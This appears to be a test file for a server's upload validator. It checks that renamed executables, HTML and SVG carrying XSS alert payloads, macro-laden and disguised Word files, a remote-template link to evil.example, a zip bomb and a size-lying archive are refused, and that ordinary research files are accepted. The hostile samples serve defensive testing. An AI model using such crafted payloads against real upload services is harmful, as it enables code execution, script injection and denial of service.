import { createHash } from 'node:crypto'
import { strToU8, zipSync } from 'fflate'
import { expect, test } from 'vitest'
import { nestedElements } from '#server/test/hostile-xml.ts'
import { docx, pdf, upload } from '#server/test/upload.ts'
import { inWorld } from '#server/test/world.ts'
import { fileUploads } from '../tables.ts'

const sha = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex')

const bomb = () => docx(['x'], { 'word/big.xml': new Uint8Array(310 * 1024 * 1024) })
/** An archive that says of its content that it is small. */
function liar() {
  const bytes = docx(['x'], { 'word/big.xml': new Uint8Array(5_000_000) })
  const view = new DataView(bytes.buffer, bytes.byteOffset)
  for (let at = 0; at < bytes.length - 4; at += 1)
    if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) === 5_000_000)
      view.setUint32(at + 24, 100, true)
  return bytes
}

/** A document whose settings attach a template that is somewhere else. */
const template = (tag: string, encoding: 'utf8' | 'utf-16le' = 'utf8') => {
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
  const xml = `<?xml version="1.0"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships">${tag}Type="${type}" Target="https://evil.example/a.dotm" TargetMode="External"/></r:Relationships>`
  return docx(['x'], { 'word/_rels/settings.xml.rels': new Uint8Array(Buffer.from(xml, encoding)) })
}

/** What people have: links to pages, and pictures that are somewhere else. */
test('a document with links and pictures from elsewhere, and a template of its own, is taken', () =>
  inWorld(async (world) => {
    const ada = await world.arrive('Ada')
    const at = await world.startProject(ada)
    const kind = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
    const xml = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${kind}/hyperlink" Target="https://example.org" TargetMode="External"/><Relationship Id="b" Type="${kind}/image" Target="https://example.org/a.png" TargetMode="External"/><Relationship Id="c" Type="${kind}/oleObject" Target="embeddings/a.bin"/><Relationship Id="d" Type="${kind}/attachedTemplate" Target="file:///C:\\Users\\Ada\\Templates\\Thesis.dotx" TargetMode="External"/></Relationships>`
    const bytes = docx(['x'], { 'word/_rels/document.xml.rels': strToU8(xml) })
    await upload(ada, world.storage, at, { name: 'a.docx', bytes })
  }))

type World = Parameters<Parameters<typeof inWorld>[0]>[0]
const inWorldWith = (bytes: Uint8Array, act: (world: World, bytes: Uint8Array) => Promise<void>) =>
  inWorld((world) => act(world, bytes))

test.each([
  ['a program', 'setup.exe', strToU8('MZ'), 'type'],
  ['a page', 'page.html', strToU8('<p>Hi'), 'type'],
  ['a drawing', 'plot.svg', strToU8('<svg/>'), 'type'],
  ['an archive', 'all.zip', zipSync({ a: strToU8('a') }), 'type'],
  ['an old Word document', 'old.doc', strToU8('x'), 'type'],
  ['what has no ending', 'thesis', strToU8('x'), 'type'],
  ['what ends like a field of every object', 'x.constructor', strToU8('x'), 'type'],
  ['a program that was renamed', 'thesis.pdf', Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]), 'content'],
  ['a program as text', 'notes.txt', Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0]), 'content'],
  ['a page as text', 'notes.txt', strToU8('\ufeff  <!-- x --><!DOCTYPE html><script>alert(1)</script>'), 'content'],
  ['a drawing as text', 'notes.md', strToU8('<svg onload="alert(1)"></svg>'), 'content'],
  ['a drawing as a picture', 'plot.png', strToU8('<svg onload="alert(1)"></svg>'), 'content'],
  ['a page after more comments than can be seen', 'notes.txt', strToU8(`${'<!---->'.repeat(700)}<html>`), 'content'],
  ['a PDF as text', 'notes.txt', strToU8('%PDF-1.7 without a byte that is not text'), 'content'],
  ['a picture as a PDF', 'plot.pdf', strToU8('GIF89a'), 'content'],
  ['text as a Word document', 'a.docx', strToU8('hello'), 'content'],
  ['an archive as a Word document', 'a.docx', zipSync({ 'a.txt': strToU8('a') }), 'content'],
  ['a spreadsheet as a Word document', 'a.docx', zipSync({ 'xl/workbook.xml': strToU8('a') }), 'content'],
  ['a document with macros', 'a.docx', docx(['x'], { 'word/vbaProject.bin': strToU8('x') }), 'macros'],
  [
    'a document with macros under another name',
    'a.docx',
    docx(['x'], {
      '[Content_Types].xml': strToU8(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/theme9.bin" ContentType="application/vnd.ms-office.vb&#x61;Project"/></Types>',
      ),
      'word/theme9.bin': strToU8('x'),
    }),
    'macros',
  ],
  ['a document with a template from elsewhere', 'a.docx', () => template("<r:Relationship Id='a' "), 'elsewhere'],
  ['one that says so in UTF-16', 'a.docx', () => template('<r:Relationship Id="a" ', 'utf-16le'), 'elsewhere'],
  [
    'one whose description is no XML',
    'a.docx',
    docx(['x'], { 'word/_rels/settings.xml.rels': strToU8('<a') }),
    'content',
  ],
  [
    'one whose description is deeper than any',
    'a.docx',
    docx(['x'], { 'word/_rels/settings.xml.rels': strToU8(nestedElements(11)) }),
    'content',
  ],
  ['a bomb', 'a.docx', bomb, 'bomb'],
  ['a bomb that lies', 'a.docx', liar, 'content'],
] as const)('%s is refused and removed', (_what, name, content, fault) =>
  // Made before the transaction, which must not wait for it.
  inWorldWith(typeof content === 'function' ? content() : content, async (world, bytes) => {
    const ada = await world.arrive('Ada')
    const at = await world.startProject(ada)
    await expect(upload(ada, world.storage, at, { name, bytes })).rejects.toMatchObject({
      code: 'FILE_REFUSED',
      data: { fault },
    })
    expect(await ada.calls.files.list({ projectId: at.projectId, stageId: at.stageId })).toMatchObject({
      files: [],
      storage: { used: 0 },
    })
    expect(await world.db.$count(fileUploads)).toBe(0)
  }),
)

test.each([
  ['Thesis.PDF', pdf()],
  ['a.docx', docx()],
  ['a.txt', strToU8('Größe')],
  ['latin.csv', Uint8Array.from([0x47, 0x72, 0xf6, 0x3b, 0x31])],
  ['x.tex', strToU8('\\documentclass{article}')],
  // What begins like a bitmap, a PostScript file, a model to print and a program.
  ['health.csv', strToU8('BMI,age,sex\n24.1,31,f')],
  ['y.tex', strToU8('%!TEX program = xelatex\n\\documentclass{article}')],
  ['waste.txt', strToU8('solid waste in three towns\n')],
  ['twins.txt', strToU8('MZ twins and their parents')],
  // Such comments once took longer than the age of the world.
  ['comments.md', strToU8(`${'<!---->'.repeat(500)}x`)],
  [
    'x.png',
    Uint8Array.from([
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6,
      0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0, 0x49, 0x44, 0x41, 0x54,
    ]),
  ],
  ['data.sav', strToU8('$FL2@(#) SPSS DATA FILE')],
])('%s is taken', (name, bytes) =>
  inWorld(async (world) => {
    const ada = await world.arrive('Ada')
    const at = await world.startProject(ada)
    expect((await upload(ada, world.storage, at, { name, bytes })).sha256).toBe(sha(bytes))
  }),
)
